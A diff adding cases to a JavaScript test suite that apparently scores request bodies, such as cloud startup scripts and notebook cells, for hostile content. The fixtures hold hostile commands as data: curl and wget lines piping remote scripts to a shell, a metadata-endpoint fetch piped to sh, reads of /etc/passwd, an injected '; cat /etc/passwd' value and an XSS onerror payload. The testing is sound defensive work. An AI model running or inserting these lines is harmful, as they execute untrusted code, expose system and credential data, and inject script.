@@ -81,6 +81,23 @@ describe('what a program reports of its own doings', () => {
     expect(scoreOf(body)).toBeLessThan(60)
   })
 
+  it.each([
+    ['user_data', '#!/bin/bash\ncurl -fsSL https://x.example/i.sh | bash\nwget https://webhook.site/2f | sh\n'],
+    ['userData', '#cloud-config\nruncmd:\n  - curl -s http://169.254.169.254/latest/meta-data/ | sh\n'],
+    ['startup-script', '#! /bin/sh\ncat /etc/passwd; rm -rf /tmp/x\n'],
+  ])('passes as what a new machine runs: %s', (key, script) => {
+    expect(scoreOf({ name: 'node-1', [key]: script })).toBeLessThan(60)
+  })
+
+  it('passes as a cell of a notebook, but for markup', () => {
+    const cells = [
+      { cell_type: 'code', source: '!cat /proc/cpuinfo | grep model' },
+      { source: ['import os\n', "os.system('ls')"] },
+    ]
+    expect(scoreOf({ content: { cells } })).toBeLessThan(60)
+    expect(scoreOf({ cells: [{ source: '<img src=x onerror=alert(1)>' }] })).toBeGreaterThanOrEqual(80)
+  })
+
   it('is on the record all the same', () => {
     const bytes = Buffer.from(JSON.stringify(span(statement)))
     const view = bodyView({ chunks: [bytes], bytes: bytes.length, complete: true }, 'application/json', null)
@@ -90,6 +107,8 @@ describe('what a program reports of its own doings', () => {
 
 describe('what is no record', () => {
   it.each([
+    ['a start script that is none', { user_data: '127.0.0.1; cat /etc/passwd' }],
+    ['a script elsewhere', { host: '#!/bin/sh\ncat /etc/passwd' }],
     ['other names', { spans: [{ text: shell }] }],
     ['other places', { filter: { spans: { description: shell } } }],
     ['a statement elsewhere', { statement, db: { query: shell } }],
